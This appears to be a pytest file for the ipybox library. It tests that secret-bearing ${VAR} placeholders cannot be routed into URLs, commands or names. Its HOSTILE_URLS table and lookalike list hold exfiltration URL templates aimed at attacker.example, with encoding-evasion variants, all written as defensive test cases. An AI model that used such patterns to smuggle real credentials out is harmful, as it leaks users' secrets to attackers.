"""Attacks on `${VAR}` placeholders: a secret must never reach a destination of the caller's choosing.

The rule: placeholders are filled only in elements of `args` and in values of `env` and
`headers`, from the workspace's `.env` and the allowed variables of ipybox's environment (or an
application's explicit mapping). Everything else is refused with an error that names the
variable and the rule, never the value, and is recorded in the audit trail.
"""

from __future__ import annotations

import json
import shutil
from pathlib import Path
from typing import Any

import pytest
from servers.attacker import Attacker
from servers.launch import everything_params, nasty_params
from tool_exec.conftest import requires_node

from ipybox import ApprovalRequest, CodeExecutionError, CodeExecutor, generate_mcp_sources
from ipybox.mcp_client.params import ServerParamsError, transport_of
from ipybox.mcp_client.placeholders import PlaceholderError, Placeholders, resolve
from ipybox.tool_exec import registry

SECRET = "hunter2-host-secret-7c41"
OTHER = "second-secret-value-9d03"
ENV = {"TOKEN": SECRET, "OTHER": OTHER, "NAME": "OTHER"}

HOSTILE_URLS = {
    "host": "https://${TOKEN}.attacker.example/mcp",
    "path": "https://attacker.example/${TOKEN}/mcp",
    "query": "https://attacker.example/mcp?k=${TOKEN}",
    "userinfo": "https://u:${TOKEN}@attacker.example/mcp",
    "fragment": "https://attacker.example/mcp#${TOKEN}",
    "port": "https://attacker.example:${TOKEN}/mcp",
    "spliced": "https://attacker.example/${OTHER}${TOKEN}",
    "dollar_escape": "https://attacker.example/$${TOKEN}",
    "nested": "https://attacker.example/${${TOKEN}}",
    "lowercase_name": "https://attacker.example/${token}",
}


def refused(params: dict[str, Any], env: dict[str, str] = ENV, source: str = "the test") -> PlaceholderError:
    transport_of(params)
    with pytest.raises(PlaceholderError) as info:
        resolve(params, env, source)
    error = info.value
    for value in env.values():
        if len(value) > 6:
            assert value not in str(error), "an error message carries a secret"
    return error


# --- where a placeholder may stand ----------------------------------------------------------------


@pytest.mark.parametrize("part", list(HOSTILE_URLS))
def test_placeholders_in_a_url_are_refused_wherever_they_stand(part: str) -> None:
    url = HOSTILE_URLS[part]
    error = refused({"url": url}, ENV | {"token": "lower-case-secret-1"})
    assert error.rule == "placement"
    assert "server_params['url']" in str(error) and "never in a URL" in str(error)
    expected = {"spliced": ["OTHER", "TOKEN"], "lowercase_name": ["token"]}.get(part, ["TOKEN"])
    assert error.variables == expected
    for name in expected:
        assert f"${{{name}}}" in str(error)


@pytest.mark.parametrize(
    ("params", "where"),
    [
        ({"command": "${TOKEN}"}, "server_params['command']"),
        ({"command": "/usr/bin/${TOKEN}", "args": []}, "server_params['command']"),
        ({"command": "x", "cwd": "/tmp/${TOKEN}"}, "server_params['cwd']"),
        ({"url": "https://h/mcp", "headers": {"X-${TOKEN}": "v"}}, "the name 'X-${TOKEN}'"),
        ({"command": "x", "env": {"${TOKEN}": "v"}}, "the name '${TOKEN}'"),
    ],
)
def test_placeholders_in_commands_and_names_are_refused(params: dict[str, Any], where: str) -> None:
    error = refused(params)
    assert (error.rule, error.variables) == ("placement", ["TOKEN"])
    assert where in str(error)


def test_nested_values_and_odd_types_are_refused_before_any_substitution() -> None:
    for params in (
        {"url": "https://h/mcp", "type": "${TOKEN}"},
        {"command": "x", "env": {"A": {"B": "${TOKEN}"}}},
        {"command": "x", "env": {"A": ["${TOKEN}"]}},
        {"url": "https://h/mcp", "headers": {"A": {"B": "${TOKEN}"}}},
        {"command": "x", "args": [["${TOKEN}"]]},
    ):
        with pytest.raises(ServerParamsError, match="string|type"):
            transport_of(params)


def test_secrets_are_filled_in_args_env_and_header_values_in_one_pass() -> None:
    env = ENV | {"LOOKS_LIKE_A_PLACEHOLDER": "${TOKEN}"}
    stdio = {
        "command": "server",
        "args": [
            "--token=${TOKEN}",
            "${OTHER}${TOKEN}",
            "$${TOKEN}",
            "${${NAME}}",
            "${LOOKS_LIKE_A_PLACEHOLDER}",
        ],
        "env": {"API_KEY": "${TOKEN}", "PLAIN": "plain"},
    }
    assert resolve(stdio, env) == {
        "command": "server",
        "args": [f"--token={SECRET}", OTHER + SECRET, f"${SECRET}", "${OTHER}", "${TOKEN}"],
        "env": {"API_KEY": SECRET, "PLAIN": "plain"},
    }
    http = {"url": "https://api.example/mcp", "headers": {"Authorization": "Bearer ${TOKEN}"}}
    assert resolve(http, env)["headers"] == {"Authorization": f"Bearer {SECRET}"}
    assert resolve(http, env)["url"] == "https://api.example/mcp"


@pytest.mark.parametrize(
    "url",
    [
        "https://attacker.example/%24%7BTOKEN%7D",  # percent-encoded
        "https://attacker.example/%2524%257BTOKEN%257D",  # twice
        "https://attacker.example/\uff04\uff5bTOKEN\uff5d",  # fullwidth $ { }
        "https://attacker.example/$\u200b{TOKEN}",  # zero-width space
        "https://attacker.example/${TOKEN\u200b}",
        "https://attacker.example/$%7BTOKEN%7D",
        "https://attacker.example/${TOKEN:-x}",  # shell default syntax
        "https://attacker.example/$TOKEN",
    ],
)
def test_lookalike_placeholders_are_never_filled(url: str) -> None:
    """What does not read as `${NAME}` is not a placeholder: it goes out as written, no secret in it."""
    assert resolve({"url": url}, ENV) == {"url": url}
    assert resolve({"url": "https://h/mcp", "headers": {"X": url}}, ENV)["headers"]["X"] == url


# --- where values come from -----------------------------------------------------------------------


def test_unknown_and_not_allowed_variables_get_the_same_answer(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Whether a variable is set in ipybox's environment is not revealed when it is not allowed."""
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", SECRET)
    monkeypatch.delenv("IPYBOX_NOT_SET", raising=False)
    placeholders = Placeholders.of(tmp_path, allow_env=[])
    env = placeholders.values()
    messages = []
    for name in ("AWS_SECRET_ACCESS_KEY", "IPYBOX_NOT_SET"):
        error = refused({"command": "x", "env": {"K": f"${{{name}}}"}}, env, placeholders.describe())
        assert (error.rule, error.variables) == ("source", [name])
        messages.append(str(error).replace(name, "NAME"))
        assert str(tmp_path / ".env") in str(error) and "--allow-env" in str(error)
    assert messages[0] == messages[1]
    assert SECRET not in json.dumps(env)


def test_dotenv_and_allowed_variables_are_the_only_sources(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("GITHUB_TOKEN", "from-environment")
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", SECRET)
    (tmp_path / ".env").write_text(
        "FROM_DOTENV=dotenv-value\n"
        "GITHUB_TOKEN=from-dotenv\n"
        "DERIVED=${FROM_DOTENV}-x\n"
        "LEAK=${AWS_SECRET_ACCESS_KEY}\n"  # a .env cannot pull in what is not allowed
        "VIA_ALLOWED=${GITHUB_TOKEN}\n"
    )
    values = Placeholders.of(tmp_path, allow_env=["GITHUB_TOKEN"]).values()
    assert values["FROM_DOTENV"] == "dotenv-value"
    assert values["GITHUB_TOKEN"] == "from-environment"  # the environment wins for an allowed name
    assert values["DERIVED"] == "dotenv-value-x"
    assert values["LEAK"] == ""
    assert values["VIA_ALLOWED"] == "from-environment"
    assert "AWS_SECRET_ACCESS_KEY" not in values and SECRET not in json.dumps(values)

    closed = Placeholders.of(tmp_path, allow_env=[]).values()
    assert closed["GITHUB_TOKEN"] == "from-dotenv" and "AWS_SECRET_ACCESS_KEY" not in closed

    # an application's own (legacy) default: all of its environment
    assert Placeholders.of(tmp_path).values()["AWS_SECRET_ACCESS_KEY"] == SECRET
    # an explicit mapping is all there is
    assert Placeholders.of(tmp_path, allow_env=None, mapping={"ONLY": "1"}).values() == {"ONLY": "1"}


# --- through the generator and the tool server ----------------------------------------------------


@pytest.mark.timeout(60)
async def test_generator_sends_nothing_when_a_placeholder_is_refused(
    attacker: Attacker, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("TOKEN", SECRET)
    for url in HOSTILE_URLS.values():
        with pytest.raises(PlaceholderError, match="never in a URL") as info:
            await generate_mcp_sources(
                "x", {"url": url.replace("https://attacker.example", attacker.url)}, tmp_path
            )
        assert SECRET not in str(info.value)
    # a header value is a place for a secret, but only for variables the application allows
    with pytest.raises(PlaceholderError, match="--allow-env") as info:
        await generate_mcp_sources(
            "x", {"url": attacker.url + "/mcp", "headers": {"X": "${TOKEN}"}}, tmp_path, allow_env=["OTHER"]
        )
    assert info.value.variables == ["TOKEN"]
    assert attacker.requests == []
    assert not (tmp_path / "x").exists() and not registry.is_registered("x", {"url": attacker.url})


@pytest.mark.timeout(60)
async def test_allowed_secret_goes_only_into_its_header(
    attacker: Attacker, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("TOKEN", SECRET)
    params = {"url": attacker.url + "/mcp?plain=1", "headers": {"Authorization": "Bearer ${TOKEN}"}}
    with pytest.raises(ConnectionError) as info:  # it is no MCP server
        await generate_mcp_sources("x", params, tmp_path / "mcptools", allow_env=["TOKEN"])
    assert SECRET not in str(info.value)
    assert attacker.requests, "the request was not sent"
    for request in attacker.requests:
        line, headers = request.split("\n", 1)
        assert SECRET not in line  # not in the path or query
        assert f"Authorization: Bearer {SECRET}" in headers


@requires_node
@pytest.mark.timeout(90)
async def test_tool_server_refuses_a_variable_the_application_did_not_allow(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The generated package was registered while the variable was allowed; an executor that does
    not allow it refuses to start the server, before anyone is asked, and records why."""
    monkeypatch.setenv("TOKEN", SECRET)
    params = everything_params() | {"env": {"API_KEY": "${TOKEN}"}}
    await generate_mcp_sources("everything", params, tmp_path / "mcptools", allow_env=["TOKEN"])
    log = tmp_path / "audit.jsonl"
    code = "from mcptools.everything import get_env\nprint(get_env.run(get_env.Params()))"
    requests: list[ApprovalRequest] = []
    async with CodeExecutor(
        working_dir=tmp_path, audit_log=log, allow_env=[], spare_kernel=False
    ) as executor:
        with pytest.raises(CodeExecutionError) as info:
            async for item in executor.stream(code):
                if isinstance(item, ApprovalRequest):
                    requests.append(item)
                    await item.accept()
    assert requests == []
    assert "${TOKEN}" in str(info.value) and "will not be started" in str(info.value)
    assert SECRET not in str(info.value)
    [entry] = [json.loads(line) for line in log.read_text().splitlines()]
    assert (entry["decision"], entry["rule"], entry["variables"]) == ("refused", "source", ["TOKEN"])
    assert SECRET not in log.read_text()

    # allowed, and given as an explicit mapping: the server gets the value in its env
    async with CodeExecutor(working_dir=tmp_path, placeholder_env={"TOKEN": "mapped"}) as executor:
        env = json.loads((await executor.execute(code)).text or "{}")
    assert env["API_KEY"] == "mapped"


@pytest.mark.timeout(90)
async def test_a_server_registered_in_one_workspace_is_unknown_in_another(tmp_path: Path) -> None:
    first, second = tmp_path / "first", tmp_path / "second"
    await generate_mcp_sources("nasty", nasty_params(), first / "mcptools")
    shutil.copytree(first / "mcptools", second / "mcptools")  # same code, other workspace
    assert registry.is_registered("nasty", nasty_params(), first)
    assert not registry.is_registered("nasty", nasty_params(), second)
    code = "from mcptools.nasty import echo\nprint(echo.run(echo.Params(message='hi')))"
    async with CodeExecutor(working_dir=first, spare_kernel=False) as executor:
        assert (await executor.execute(code)).text == "hi"
    async with CodeExecutor(working_dir=second, spare_kernel=False) as executor:
        with pytest.raises(CodeExecutionError, match=r"not registered .* in workspace .*second"):
            await executor.execute(code)
    # the registry keys workspaces by their resolved path: a symlink to the first is the first
    (tmp_path / "link").symlink_to(first)
    assert registry.is_registered("nasty", nasty_params(), tmp_path / "link")
